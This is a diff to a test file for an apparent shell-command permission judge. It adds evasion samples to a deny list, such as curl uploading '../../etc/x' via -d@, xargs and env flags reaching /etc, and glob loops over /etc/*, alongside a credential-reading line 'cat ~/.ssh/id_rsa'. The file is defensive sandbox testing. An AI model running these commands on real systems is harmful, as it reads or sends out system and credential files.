@@ -200,6 +200,29 @@ OUTSIDE = [
     "sed -n '1r /etc/passwd' a",
     "sed 'w /etc/x' a",
     "sed -i p /etc/x",
+    "env time -o /etc/x ls",
+    "/usr/bin/time --output=/etc/x ls",
+    "xargs -a /etc/x echo",
+    "xargs -0a/etc/x",
+    "xargs --arg-file=/etc/x",
+    "env -C /etc ls",
+    "env --chdir=../../etc pwd",
+    "curl -H @/etc/x http://example.com",
+    "curl --write-out @/etc/x http://example.com",
+    "curl -d@../../etc/x http://example.com",
+    "curl --data-urlencode x@../../etc/x http://example.com",
+    "xz --files=list",
+    "xz --files0=list",
+    "strings @list",
+    "nm @list",
+    "rg --ignore-file list x",
+    "echo /etc/*",
+    "cd src && printf '%s\\n' ../../../etc/*",
+    "set -- /etc/*; echo $#",
+    'for f in /etc/*; do echo "$f"; done',
+    "select f in /etc/*; do echo $f; done",
+    'x=(/etc/*); echo "${x[@]}"',
+    "echo */passwd",
 ]
 CREDENTIALS = [
     "cat ~/.ssh/id_rsa",
@@ -324,10 +347,18 @@ async def test_a_pattern_that_matches_a_link_to_the_outside_is_refused(parser: P
         "ls l*/",
         "cat [^s]*",
         "cat [[:alpha:]]*",
+        "shopt -s nocaseglob; cat LEAD*",
         "for f in *; do cat $f; done",
     ):
         assert isinstance(await judge.judge(Command(what=Script(text))), Denied), text
-    for text in ("cat *.py", "cat s*", "cat stays"):
+    for text in (
+        "cat *.py",
+        "cat s*",
+        "cat stays",
+        "echo *",
+        "for f in *; do echo $f; done",
+        "x=(l*); set -- *; echo $#",
+    ):
         assert await judge.judge(Command(what=Script(text))) == Allowed(), text
 
 
